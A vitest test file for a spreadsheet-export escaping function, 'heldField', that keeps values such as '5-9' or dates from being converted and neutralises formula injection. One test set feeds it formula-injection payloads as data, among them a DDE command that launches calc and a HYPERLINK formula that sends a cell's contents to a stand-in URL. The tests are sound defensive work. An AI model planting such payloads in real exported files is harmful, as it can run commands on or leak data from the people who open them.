import { expect, test } from "vitest";
import { heldField } from "#lib/rules/held-field";

test.each([
  "5-9",
  "1.10",
  "2013-12",
  "20-15",
  "75+",
  "below 20",
  "3/4",
  "10:30",
  "5 Mar",
  "1e5",
  "(5)",
  "£5",
  "5%",
  "TRUE",
  "-5",
  "2014-07-14T08:30:05Z",
])("%s cannot become a number or a date", (text) => {
  expect(heldField(text)).toBe(`="${text}"`);
});

test.each(["", "Outstanding", "percent", "% children seen within 10 days of the combined assessment’s start date"])(
  "%j stays as it is",
  (text) => {
    expect(heldField(text)).toBe(text);
  },
);

test.each(["=1+1", "@SUM(A1)", '=HYPERLINK("https://example.com/?"&A1)', "+cmd|'/c calc'!A0", "-2+3\n=1", "\t=1"])(
  "%j is not run: it holds more than a text",
  (text) => {
    expect(heldField(text)).toBe(`'${text}`);
  },
);

test("no text ends the one it stands in", () => {
  expect(heldField('5"&A1&"')).toBe('5"&A1&"');
});
